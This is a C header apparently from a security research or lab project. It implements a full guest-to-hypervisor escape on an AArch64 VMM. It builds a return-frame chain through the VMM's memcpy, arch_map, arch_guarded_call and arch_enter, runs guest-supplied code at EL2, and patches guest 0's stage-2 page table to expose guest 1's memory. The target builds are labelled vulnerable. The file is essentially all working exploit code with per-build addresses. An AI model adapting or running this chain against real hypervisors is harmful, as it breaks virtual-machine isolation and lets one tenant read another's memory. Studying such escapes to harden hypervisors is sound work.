/*
 * From control over the registers with which the VMM returns from an exception to code of the
 * guest's own at EL2: what both escapes have in common.
 *
 * EL2's memory is mapped one to one and no page of it is writable and executable, so the guest's
 * memory, which EL2 can read and write, does not run there. What runs is the VMM itself. The first
 * return goes to its memcpy at EL2h, which copies three frames onto the CPU's empty stack; from then on
 * the VMM's own way out of an exception (restore_frame) is the return address of each function and
 * takes the next frame from the stack:
 *
 *   memcpy              the frames onto the stack
 *   arch_map            a page of the guest's, executable, at an address that EL2 does not use
 *   arch_guarded_call   that page: the guest's code at EL2
 *   arch_enter          back into a guest; the stack is as it was
 *
 * Addresses are those of the published binaries (tools/images.ts, `knows`).
 */
#ifndef ATTACK_ESCAPE_H
#define ATTACK_ESCAPE_H

#include <rw/guest_api.h>
#include <rw/page_table.h>
#include <rw/sysreg.h>

/* The VMM's own header declares its modules' entry point; this module is the guest's. */
#define module_entry vmm_module_entry
#include <vmm/vmm.h>
#undef module_entry

/* Addresses in one build of the VMM. */
struct victim {
  uint64_t memcpy;
  uint64_t restore_frame;
  uint64_t arch_map;
  uint64_t arch_guarded_call;
  uint64_t arch_enter;
  uint64_t stacks;
  uint64_t guests;
};

#define KNOWN(build)                                                                                    \
  extern const uint8_t build##__memcpy[], build##__restore_frame[], build##__arch_map[],                \
      build##__arch_guarded_call[], build##__arch_enter[], build##__vmm_stacks[], build##__vmm_guests[];
KNOWN(vmm_plain_vulnerable)
KNOWN(vmm_tvmi_vulnerable)
KNOWN(vmm_hostvmi_vulnerable)

#define VICTIM(build)                                                              \
  {(uint64_t)build##__memcpy,           (uint64_t)build##__restore_frame,          \
   (uint64_t)build##__arch_map,         (uint64_t)build##__arch_guarded_call,      \
   (uint64_t)build##__arch_enter,       (uint64_t)build##__vmm_stacks,             \
   (uint64_t)build##__vmm_guests}

/* By what the VMM says of itself. */
static const struct victim victims[RW_VMM_BUILDS] = {
    [RW_VMM_BUILD_PLAIN] = VICTIM(vmm_plain_vulnerable),
    [RW_VMM_BUILD_TVMI] = VICTIM(vmm_tvmi_vulnerable),
    [RW_VMM_BUILD_HOSTVMI] = VICTIM(vmm_hostvmi_vulnerable),
};

/* The VMM that this guest runs on. The attack is made for boards with one CPU. */
static inline const struct victim *find_victim(const struct rw_guest_api *api) {
  return &victims[(uint64_t)api->hypercall(RW_HVC_VERSION, 0, 0, 0) % RW_VMM_BUILDS];
}

/* An address that EL2 does not use. */
#define ESCAPE_WINDOW 0x60000000ull
#define EL2H (SPSR_M_EL2H | SPSR_DAIF)
#define EL1H (SPSR_M_EL1H | SPSR_DAIF)
#define STACK_SIZE 0x4000

/* Guest 0's RAM is at a fixed place: physical address of something of this module's. */
static inline uint64_t physical(const volatile void *at) {
  return (uint64_t)at - RW_GUEST_LINEAR_VA - RW_GUEST_IPA_RAM + RW_GUEST_RAM;
}

enum { CALL_MAP, CALL_STAGE, CALL_LEAVE, CALLS };

/* The frames that go onto EL2's stack, the one with which the guest goes on, and the first registers. */
static struct {
  struct vmm_frame call[CALLS];
  struct vmm_frame leave;
  struct rw_hvc_context first;
} chain;

#define IPA_OF_GUEST_1 0x41200000ull
#define STAGE2_BLOCK (PT_S2_NORMAL | PT_S2_READ | PT_S2_WRITE | PT_ACCESS_FLAG | PT_VALID)
#define L2_INDEX(ipa) (((ipa) >> 21) & (PT_ENTRIES - 1))
/* Rounds for which the code stays at EL2, so that it can be seen there. */
#define ROUNDS 2000

/*
 * The guest's code at EL2, alone on its page and without data of its own: opens guest 1's RAM to guest
 * 0, by an entry of guest 0's stage 2 (the VMM's note of its root is `root`).
 */
__attribute__((used, aligned(RW_PAGE_SIZE), section(".text.stage"))) static int stage(const uint64_t *root) {
  const uint64_t *level1 = (const uint64_t *)*root;
  uint64_t *level2 = (uint64_t *)(level1[IPA_OF_GUEST_1 >> 30] & PT_ADDRESS);
  *(volatile uint64_t *)&level2[L2_INDEX(IPA_OF_GUEST_1)] = (RW_GUEST_RAM + RW_GUEST_RAM_SIZE) | STAGE2_BLOCK;
  for (volatile unsigned round = 0; round < ROUNDS;) round++;
  return 0;
}

static inline void set_call(unsigned which, uint64_t function, uint64_t back) {
  chain.call[which].elr = function;
  chain.call[which].spsr = EL2H;
  chain.call[which].x[30] = back;
}

/* Prepares everything. The guest goes on at `pc` at EL1h, with `x0`. */
static inline void build_chain(const struct victim *victim, uint64_t pc, uint64_t x0) {
  set_call(CALL_MAP, victim->arch_map, victim->restore_frame);
  chain.call[CALL_MAP].x[0] = ESCAPE_WINDOW;
  chain.call[CALL_MAP].x[1] = physical((const void *)stage);
  chain.call[CALL_MAP].x[2] = RW_PAGE_SIZE;
  chain.call[CALL_MAP].x[3] = RW_VMM_MAP_EXECUTE;
  set_call(CALL_STAGE, victim->arch_guarded_call, victim->restore_frame);
  chain.call[CALL_STAGE].x[0] = ESCAPE_WINDOW;
  chain.call[CALL_STAGE].x[1] = victim->guests + offsetof(struct vmm_guest, arch.stage2.root);
  set_call(CALL_LEAVE, victim->arch_enter, 0);
  chain.call[CALL_LEAVE].x[0] = physical(&chain.leave);
  chain.leave.x[0] = x0;
  chain.leave.elr = pc;
  chain.leave.spsr = EL1H;
  chain.first.x[0] = victim->stacks + STACK_SIZE;
  chain.first.x[1] = physical(chain.call);
  chain.first.x[2] = sizeof chain.call;
  chain.first.x[30] = victim->restore_frame;
  chain.first.pc = victim->memcpy;
  chain.first.pstate = EL2H;
  __asm__ volatile("dsb ish\n ic iallu\n isb" : : : "memory");
}

#endif
